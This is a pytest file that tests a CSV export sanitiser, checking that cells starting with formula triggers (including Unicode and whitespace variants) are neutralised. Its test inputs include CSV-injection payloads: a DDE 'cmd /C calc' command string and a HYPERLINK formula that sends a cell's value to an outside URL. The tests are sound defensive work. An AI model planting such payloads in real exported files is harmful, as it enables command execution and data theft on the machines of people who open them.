from __future__ import annotations

import csv
import io

import pytest

from dijo_desktop.domain.csv_cells import csv_line, harmless


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+SUM(A1)", "'+SUM(A1)"),
        ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
        ("@import", "'@import"),
        ('=HYPERLINK("http://example.org/?x="&A1,"call")', '\'=HYPERLINK("http://example.org/?x="&A1,"call")'),
        ("=1;=2", "'=1;=2"),
        ("  =1+1", "'  =1+1"),
        ("\u00a0=1", "'\u00a0=1"),
        ("\ufeff=1", "'\ufeff=1"),
        (" \u200b @x", "' \u200b @x"),
        ("\t=1", "'\t=1"),
        ("\ttab", "'\ttab"),
        ("\rcr", "'\rcr"),
        ("\nlf", "'\nlf"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("\uff0b1", "'\uff0b1"),
        ("\uff0d1", "'\uff0d1"),
        ("\uff20x", "'\uff20x"),
        ("-4.99", "-4.99"),
        ("-4.99.1", "'-4.99.1"),
        ("+44", "+44"),
        ("12.5", "12.5"),
        ("\u0661\u0662", "\u0661\u0662"),
        ("+447700900123", "tel:+447700900123"),
        ("a=b", "a=b"),
        ("plain", "plain"),
        ("", ""),
    ],
)
def test_no_cell_is_a_formula(text: str, written: str) -> None:
    assert harmless(text) == written
    raw = csv_line([text])
    assert next(csv.reader(io.StringIO(raw, newline=""))) == [written]


def test_a_line_has_text_in_quotes_and_values_bare() -> None:
    raw = csv_line(['say "hi", now\nagain', 5, -3, True, False, None])
    assert raw == '"say ""hi"", now\nagain",5,-3,true,false,\r\n'
